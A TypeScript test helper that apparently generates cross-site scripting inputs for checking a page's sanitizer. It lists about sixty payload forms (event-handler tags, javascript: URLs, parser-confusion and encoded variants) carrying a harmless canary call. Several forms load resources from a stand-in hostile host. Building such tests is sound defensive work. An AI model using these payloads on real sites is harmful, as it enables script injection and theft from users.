/** Text that runs where it is taken for markup; each tells which one it was. */
export interface Payload {
  readonly mark: string;
  readonly text: string;
}

/** Found in the text of a page, it was shown; told by the page, it ran. */
export const markPattern = /zq\d+z/g;

type Form = (run: string, mark: string) => string;

const forms: readonly Form[] = [
  (run, mark) => `<script>${run}</script>${mark}`,
  (run, mark) => `</script><script>${run}</script>${mark}`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `<IMG SRC=x ONERROR=${run}>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<select autofocus onfocus="${run}">`,
  (run) => `<textarea autofocus onfocus="${run}"></textarea>`,
  (run) => `</textarea><img src=x onerror="${run}">`,
  (run) => `</title><img src=x onerror="${run}">`,
  (run) => `</style><img src=x onerror="${run}">`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<a href="javascript:${run}">press</a>`,
  (run, mark) => `javascript:${run}//${mark}`,
  (run) => `<a href="data:text/html,<script>${run}</script>">press</a>`,
  (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (_run, mark) => `<base href="//hostile.invalid/">${mark}`,
  (_run, mark) => `<link rel=stylesheet href="//hostile.invalid/a.css">${mark}`,
  (_run, mark) => `<img src="//hostile.invalid/${mark}.png">`,
  (_run, mark) => `<style>@import "//hostile.invalid/a.css";</style>${mark}`,
  (_run, mark) => `<div style="background:url(//hostile.invalid/b.png)">${mark}</div>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<?xml ?><img src=x onerror=${run}>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `%3Cimg src=x onerror=${run}%3E`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `{"__html":"<img src=x onerror=${run}>"}`,
  (run) => `[press](javascript:${run})`,
  (run) => `![x](x" onerror="${run})`,
  (run) => `<x onpointerenter="${run}" style="position:fixed;inset:0">x</x>`,
  (run) => `<x contenteditable autofocus onfocus="${run}">x</x>`,
  (run) => `<dialog open onfocus="${run}" autofocus>x</dialog>`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run.replaceAll("'", '`')}' x='`,
  (run) => `\u0001<img src=x onerror=${run}>`,
  (run) => `\u202e<img src=x onerror=${run}>`,
];

/** As many as asked for, every form in turn. */
export const hostileMarkup = (count: number): readonly Payload[] =>
  Array.from({ length: count }, (_, index) => {
    const mark = `zq${index}z`;
    const form = forms[index % forms.length] ?? ((run: string) => run);
    return { mark, text: form(`tellRan('${mark}')`, mark) };
  });
